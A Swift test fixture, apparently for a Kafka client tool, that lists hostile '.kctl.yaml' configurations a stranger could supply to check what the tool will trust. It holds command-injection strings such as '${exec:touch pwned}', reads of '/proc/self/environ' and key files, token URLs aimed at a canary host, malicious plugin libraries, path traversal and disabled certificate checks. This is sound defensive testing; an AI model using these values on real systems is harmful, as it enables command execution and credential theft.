// What a stranger's .kctl.yaml may try: a table of properties and forms, each of which needs trust.

/// One attempt.
struct TrustForm: Sendable {
    let name: String
    /// The file, with `CANARY` for the canary's address and `HOME` for the user's folder.
    let text: String

    /// A context of the file's own with one property more.
    static func property(_ name: String, _ value: String) -> TrustForm {
        TrustForm(
            name: "\(name): \(value)",
            text: """
                current-context: evil
                contexts:
                  evil:
                    bootstrap-servers: CANARY
                    properties:
                      \(name): '\(value)'

                """
        )
    }

    /// A context that is written as it stands here.
    static func context(_ text: String, name: String = "evil") -> TrustForm {
        TrustForm(
            name: text,
            text: "current-context: \(name)\ncontexts:\n  \(name): \(text)\n"
        )
    }

    static let all: [TrustForm] = security + tokens + certificates + programs + claims + forms

    private static let security: [TrustForm] = [
        .property("security.protocol", "SASL_PLAINTEXT"), .property("security.protocol", "SSL"),
        .property("security.protocol", "PLAINTEXT"), .property("sasl.mechanism", "PLAIN"),
        .property("sasl.mechanisms", "GSSAPI"), .property("sasl.username", "me"),
        .property("sasl.password", "mine"),
        .property(
            "sasl.jaas.config",
            #"PlainLoginModule required username="a" password="b";"#
        ),
        .property(
            "sasl.jaas.config",
            #"Krb5LoginModule required useKeyTab=true keyTab="/tmp/k" principal="x; touch pwned";"#
        ),
        .property(
            "sasl.jaas.config",
            #"OAuthBearerLoginModule required clientId="a" clientSecret="b";"#
        ),
        .property("sasl.kerberos.principal", "x; touch pwned"),
        .property("sasl.kerberos.principal", "x"),
        .property("sasl.kerberos.keytab", "$(touch pwned)"),
        .property("sasl.kerberos.service.name", "`touch pwned`"),
        .property("sasl.kerberos.kinit.cmd", "touch pwned && true"),
        .property("sasl.kerberos.min.time.before.relogin", "1"),
        .property("sasl.login.class", "org.example.Login"),
        .property("sasl.login.callback.handler.class", "org.example.Handler"),
        .property("sasl.client.callback.handler.class", "org.example.Handler"),
        .property("sasl.passwrd", "mine"), .property("SASL.PASSWORD", "mine"),
        .property("sasl.password ", "mine"), .property("enable_sasl_queue", "true"),
    ]

    private static let tokens: [TrustForm] = [
        .property("sasl.oauthbearer.method", "oidc"),
        .property("sasl.oauthbearer.token.endpoint.url", "http://CANARY/token"),
        .property("sasl.oauthbearer.token.endpoint.url", "file:///proc/self/environ"),
        .property("sasl.oauthbearer.client.id", "${env:CANARY_ENV}"),
        .property("sasl.oauthbearer.client.secret", "${file:HOME/key}"),
        .property("sasl.oauthbearer.client.credentials.client.secret", "x"),
        .property("sasl.oauthbearer.scope", "x"), .property("sasl.oauthbearer.extensions", "a=b"),
        .property("sasl.oauthbearer.config", "principal=x"),
        .property("sasl.oauthbearer.assertion.file", "HOME/key"),
        .property("sasl.oauthbearer.jwks.endpoint.url", "http://CANARY/keys"),
        .property("enable.sasl.oauthbearer.unsecure.jwt", "true"),
        .property("https.ca.location", "evil.pem"), .property("https.ca.pem", "x"),
    ]

    private static let certificates: [TrustForm] = [
        .property("ssl.ca.location", "evil.pem"), .property("ssl.ca.pem", "x"),
        .property("ssl.ca.certificate.stores", "Root"),
        .property("ssl.certificate.location", "evil.pem"),
        .property("ssl.certificate.pem", "x"), .property("ssl.key.location", "HOME/key"),
        .property("ssl.key.pem", "x"), .property("ssl.key.password", "x"),
        .property("ssl.crl.location", "HOME/key"), .property("ssl.keystore.location", "HOME/key"),
        .property("ssl.keystore.password", "x"), .property("ssl.truststore.location", "evil.p12"),
        .property("ssl.truststore.certificates", "x"), .property("ssl.keystore.key", "x"),
        .property("ssl.keystore.certificate.chain", "x"),
        .property("ssl.endpoint.identification.algorithm", "none"),
        .property("enable.ssl.certificate.verification", "false"),
        .property("ssl.cipher.suites", "NULL"), .property("ssl.curves.list", "P-256"),
        .property("ssl.sigalgs.list", "RSA+SHA1"),
    ]

    private static let programs: [TrustForm] = [
        .property("plugin.library.paths", "./evil.so"),
        .property("ssl.engine.location", "./evil.so"),
        .property("ssl.engine.id", "evil"), .property("ssl.providers", "evil"),
        .property("interceptor.classes", "org.example.Interceptor"),
        .property("config.providers", "file"),
        .property("metric.reporters", "org.example.Reporter"),
        .property("debug", "all"), .property("log_level", "7"),
        .property("statistics.interval.ms", "1"), .property("enabled_events", "1"),
        .property("client.id", "${exec:touch pwned; echo x}"),
        .property("client.id", "${env:CANARY_ENV}"), .property("client.id", "${file:HOME/key}"),
        .property("client.id", "${file:/dev/stdin}"),
        .property("client.rack", "a${env:CANARY_ENV}"),
        .property("client.id", "${env:CANARY_ENV"), .property("client.id", "${other:x}"),
        .property("linger.ms", "${exec:touch pwned; echo 1}"),
        .property("bootstrap.servers", "${env:CANARY_ENV}.example:1"),
        .property("metadata.broker.list", "${file:HOME/key}:1"),
    ]

    /// What would make a command claim what did not happen, or disturb somebody else.
    private static let claims: [TrustForm] = [
        .property("acks", "0"), .property("acks", "1"), .property("request.required.acks", "0"),
        .property("topic.acks", "0"), .property("enable.idempotence", "false"),
        .property("isolation.level", "read_uncommitted"), .property("retries", "0"),
        .property("max.in.flight", "100"), .property("queuing.strategy", "lifo"),
        .property("transactional.id", "yours"), .property("group.id", "yours"),
        .property("group.instance.id", "yours"), .property("enable.auto.commit", "true"),
        .property("allow.auto.create.topics", "true"), .property("topic.blacklist", ".*"),
        .property("check.crcs", "false"), .property("test.mock.num.brokers", "3"),
        .property("client.dns.lookup", "resolve_canonical_bootstrap_servers_only"),
        .property("bootstrap.controllers", "CANARY"), .property("enable.metrics.push", "true"),
        .property("a.name.of.the.future", "x"),
    ]

    private static let forms: [TrustForm] = [
        .context("{bootstrap-servers: '${env:CANARY_ENV}.example:1'}"),
        .context("{bootstrap-servers: ['CANARY', '${exec:touch pwned; echo a:1}']}"),
        .context("{bootstrap-servers: CANARY, properties-file: HOME/own.properties}"),
        .context("{bootstrap-servers: CANARY, properties-file: ../own.properties}"),
        .context("{bootstrap-servers: CANARY, properties-file: deep/../../own.properties}"),
        .context("{bootstrap-servers: CANARY, properties-file: '~/own.properties'}"),
        .context("{bootstrap-servers: CANARY, properties-file: link.properties}"),
        .context("{bootstrap-servers: CANARY, properties-file: out/own.properties}"),
        .context("{bootstrap-servers: CANARY, properties-file: pipe.properties}"),
        .context("{bootstrap-servers: CANARY, properties-file: /dev/stdin}"),
        .context("{bootstrap-servers: CANARY, properties-file: '${env:CANARY_ENV}'}"),
        .context("{bootstrap-servers: CANARY, properties-file: '${exec:touch pwned; echo x}'}"),
        .context("{bootstrap-servers: CANARY, properties-file: login.properties}"),
        .context("{bootstrap-servers: CANARY, properties-file: kerberos.properties}"),
        .context("{bootstrap-servers: CANARY, properties-file: reference.properties}"),
        .context("{bootstrap-servers: CANARY}", name: "prod"),
        .context("{bootstrap-servers: CANARY, properties: {client.id: x}}", name: "prod"),
        .context("{properties: {bootstrap.servers: CANARY}}", name: "prod"),
        .context("{properties: {metadata.broker.list: CANARY}}", name: "prod"),
        .context("{properties-file: harmless.properties}", name: "prod"),
        .context("{properties: {client.id: '${exec:touch pwned}'}}", name: "prod"),
        TrustForm(
            name: "the user's current context, without a word",
            text: "contexts: {prod: {bootstrap-servers: CANARY}}\n"
        ),
        .context("{bootstrap-servers: 'SASL_PLAINTEXT://CANARY'}"),
        .context("{bootstrap-servers: ['CANARY', 'ssl://CANARY']}"),
        .context(#"{bootstrap-servers: CANARY, properties: {client.id: "x\r\nSET a b\r\n"}}"#),
        TrustForm(name: "no context at all", text: "current-context: '-'\n"),
        TrustForm(
            name: "an alias of YAML's",
            text: """
                contexts:
                  other: {properties: &it {security.protocol: SASL_PLAINTEXT}}
                  evil: {bootstrap-servers: CANARY, properties: *it}
                current-context: evil

                """
        ),
    ]
}
